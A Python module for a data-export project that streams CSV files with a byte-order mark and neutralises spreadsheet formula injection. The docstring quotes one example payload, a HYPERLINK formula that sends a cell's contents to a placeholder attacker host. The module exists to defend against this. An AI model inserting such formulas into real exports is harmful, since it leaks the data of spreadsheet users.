"""Streaming CSV: the one writer of every CSV file the project serves or saves.

Pure: imports neither Django nor any app. :func:`csv_chunks` is a generator of
encoded byte chunks, so it can be handed as is to Django's
``StreamingHttpResponse`` or written chunk by chunk to a file; memory stays
bounded by ``rows_per_chunk`` rows whatever the number of rows.

The format, decided here and only here:

* **UTF-8 with a byte-order mark** (``EF BB BF``) before the header row.
  Why the BOM: Microsoft Excel, which most people who download these files
  open them with, reads a CSV without one in the computer's legacy code page
  (Windows-1252, 1251, 936...) and garbles every non-ASCII letter of the
  UN's six languages (``Türkiye``, Cyrillic, Chinese and Arabic texts). With
  the BOM it reads UTF-8. LibreOffice, Google Sheets and pandas skip the BOM;
  Python reads it with ``encoding="utf-8-sig"``.
* RFC 4180: comma separated, fields quoted with ``"`` when needed, ``CRLF``
  line ends (``csv.writer``'s ``excel`` dialect).
* One header row (the columns' headers), then one line per row.
* A cell holding a list is joined with :data:`MULTI_SEPARATOR` (``"; "``);
  ``None`` is an empty cell; anything else is written with ``str()``
  (so dates are ISO 8601, ``2023-12-01``).
* **No formulas** (OWASP "CSV injection"): a spreadsheet runs a cell starting
  with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return before one) as
  a formula, e.g. ``=HYPERLINK("http://evil.example/?"&A1)`` in a
  recommendation text. Every *text* cell starting with one of
  :data:`FORMULA_TRIGGERS` is written with a single quote ``'`` before it
  (:func:`neutralise`), which spreadsheets show as text. Numbers (``int``,
  ``float``) are written as they are, so ``-5`` stays a negative number; a
  list is checked once joined.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable, Iterable, Iterator, Sequence
from dataclasses import dataclass
from itertools import islice
from operator import itemgetter
from typing import IO, Any

#: Written once, before the header row (see the module docstring for why).
BOM = "\ufeff"
#: ``Content-Type`` of a CSV response.
CONTENT_TYPE = "text/csv; charset=utf-8"
#: Separator between the values of a multi-valued cell.
MULTI_SEPARATOR = "; "
#: Rows encoded per chunk: fewer, larger writes to the socket or file.
ROWS_PER_CHUNK = 500
#: First characters that make a spreadsheet read a text cell as a formula (OWASP).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_TRIGGER_SET = frozenset(FORMULA_TRIGGERS)


@dataclass(frozen=True)
class Column:
    """One column of a tabular file: its ``header`` and a getter from a row to a cell value.

    ``get`` returns ``str``, ``int``, a ``datetime.date``, ``None`` or a list
    (a multi-valued cell). The CSV and XLSX writers join lists with
    :data:`MULTI_SEPARATOR`; the JSON writer keeps them as arrays.
    """

    header: str
    get: Callable[[Any], Any]


def cell(value: Any) -> Any:
    """``value`` as a flat cell: a list joined with :data:`MULTI_SEPARATOR`, ``None`` as ``""``.

    Other values are returned unchanged (``csv.writer`` then calls ``str()`` on them).
    """
    if value is None:
        return ""
    if isinstance(value, list):
        return MULTI_SEPARATOR.join(str(v) for v in value)
    return value


def neutralise(value: Any) -> Any:
    """``value`` as a CSV cell (:func:`cell`), a text starting with one of
    :data:`FORMULA_TRIGGERS` prefixed with ``'``; numbers and other values unchanged."""
    # Called once per cell (900,000 times for the 41,066 UPR Info rows): exact type
    # checks, and one-character triggers looked up in a set.
    kind = type(value)
    if kind is str:
        return "'" + value if value[:1] in _TRIGGER_SET else value
    if value is None:
        return ""
    if kind is list:
        return neutralise(MULTI_SEPARATOR.join(str(v) for v in value))
    return value


class _Echo:
    """A write-only "file" for ``csv.writer``: ``write`` returns the line it was given."""

    def write(self, value: str) -> str:
        return value


def _cells(row: Any, getters: list[Callable[[Any], Any]]) -> list[Any]:
    """The cells of one row, each as :func:`neutralise` makes it (inlined: this runs once
    per cell, 900,000 times for the 41,066 UPR Info rows). ``None`` stays ``None``:
    ``csv.writer`` writes it as an empty field, as :func:`neutralise` would."""
    out = []
    for get in getters:
        value = get(row)
        kind = type(value)
        if kind is str:
            if value[:1] in _TRIGGER_SET:
                value = "'" + value
        elif kind is list:
            value = neutralise(value)
        out.append(value)
    return out


def csv_chunks(
    rows: Iterable[Any], columns: list[Column], *, rows_per_chunk: int = ROWS_PER_CHUNK
) -> Iterator[bytes]:
    """The CSV of ``rows`` laid out in ``columns``, as UTF-8 byte chunks.

    Args:
        rows: any iterable of row objects (read lazily, once); each column's
            ``get`` is called on each row.
        columns: the columns, in file order.
        rows_per_chunk: data rows per yielded chunk (>= 1).

    Yields:
        ``bytes``: first the BOM and the header row, then the data rows (text
        cells neutralised, see :func:`neutralise`),
        ``rows_per_chunk`` at a time. Nothing is yielded after the last row,
        so an empty ``rows`` gives one chunk (BOM and header).
    """
    getters = [c.get for c in columns]
    yield from _chunks(
        [c.header for c in columns], (_cells(row, getters) for row in rows), rows_per_chunk
    )


def csv_cell_chunks(
    headers: list[str], cells: Iterable[Sequence[Any]], *, rows_per_chunk: int = ROWS_PER_CHUNK
) -> Iterator[bytes]:
    """The CSV of rows already laid out as cells, as UTF-8 byte chunks: the same bytes as
    :func:`csv_chunks` gives for columns whose getters return those cells.

    For a caller that reads its cells in column order without row objects (the
    recommendations CSV: ``portal.rows.stream_cells``), so no getter is called per
    cell. Each row is checked as a whole first: only a row with a cell that may need
    :func:`neutralise` (its ``str()`` starts with one of :data:`FORMULA_TRIGGERS`, or with
    ``[``, as a list's does) goes through the per-cell check of :func:`csv_chunks`.

    Args:
        headers: the header row.
        cells: one sequence of cells per row (read lazily, once), in header order: a
            ``str``, ``int``, ``float``, ``datetime.date``, ``None`` or list each, as a
            column's getter returns them.
        rows_per_chunk: data rows per yielded chunk (>= 1).

    Yields:
        ``bytes``: as :func:`csv_chunks`.
    """
    yield from _chunks(headers, map(_safe_cells, cells), rows_per_chunk)


#: First characters of a cell's ``str()`` that send its row through the per-cell check:
#: the formula triggers, and ``[`` (a list, which must be joined).
_SUSPECT = frozenset((*FORMULA_TRIGGERS, "["))
_first_char = itemgetter(slice(0, 1))


def _safe_cells(cells: Sequence[Any]) -> Sequence[Any]:
    """``cells`` as :func:`_cells` makes a row's values: unchanged when no cell's ``str()``
    starts with a character of :data:`_SUSPECT` (checked in C, without a Python call per
    cell: almost every row), else each text and list through :func:`neutralise`."""
    if _SUSPECT.isdisjoint(map(_first_char, map(str, cells))):
        return cells
    return [neutralise(v) if type(v) is str or type(v) is list else v for v in cells]


def _chunks(
    headers: list[str], rows: Iterable[Sequence[Any]], rows_per_chunk: int
) -> Iterator[bytes]:
    """The BOM and the header row (neutralised), then ``rows`` (cells ready for
    ``csv.writer``) ``rows_per_chunk`` at a time, each chunk encoded in UTF-8."""
    yield (BOM + csv.writer(_Echo()).writerow([neutralise(h) for h in headers])).encode("utf-8")
    text = io.StringIO()
    writer = csv.writer(text)
    remaining = iter(rows)
    while True:
        writer.writerows(islice(remaining, rows_per_chunk))
        if not text.tell():
            return
        yield text.getvalue().encode("utf-8")
        text.seek(0)
        text.truncate()


def write_csv(rows: Iterable[Any], columns: list[Column], out: IO[bytes]) -> None:
    """Write the CSV of ``rows`` (as :func:`csv_chunks`) to ``out``, a binary file object."""
    for chunk in csv_chunks(rows, columns):
        out.write(chunk)
